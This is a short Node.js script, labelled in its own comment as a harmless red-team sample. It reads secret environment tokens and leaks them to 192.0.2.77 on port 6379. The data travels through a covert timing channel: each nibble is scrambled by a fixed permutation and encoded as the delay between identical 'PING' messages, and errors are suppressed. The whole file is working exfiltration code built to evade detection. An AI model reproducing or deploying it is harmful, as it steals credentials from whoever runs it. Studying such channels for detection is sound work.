'use strict';
// Harmless red-team sample: one raw TCP connection sending identical "PING\r\n" keepalives; the data is only in the
// gaps between them: each nibble of the env tokens goes through a fixed 16-entry permutation (non-affine) -> delay.
const net = require('net');
const { secret } = require('./util');
const SBOX = [11, 3, 14, 0, 7, 12, 5, 9, 1, 15, 4, 10, 2, 8, 13, 6];
const nib = []; for (const b of secret()) nib.push(b >> 4, b & 15);
const s = net.connect({ host: '192.0.2.77', port: 6379 });
s.on('error', () => {}); s.on('data', () => {});
let i = 0;
s.on('connect', function tick() {
  s.write('PING\r\n');
  if (i >= nib.length) return s.end();
  setTimeout(tick, 40 + 12 * SBOX[nib[i++]]);
});
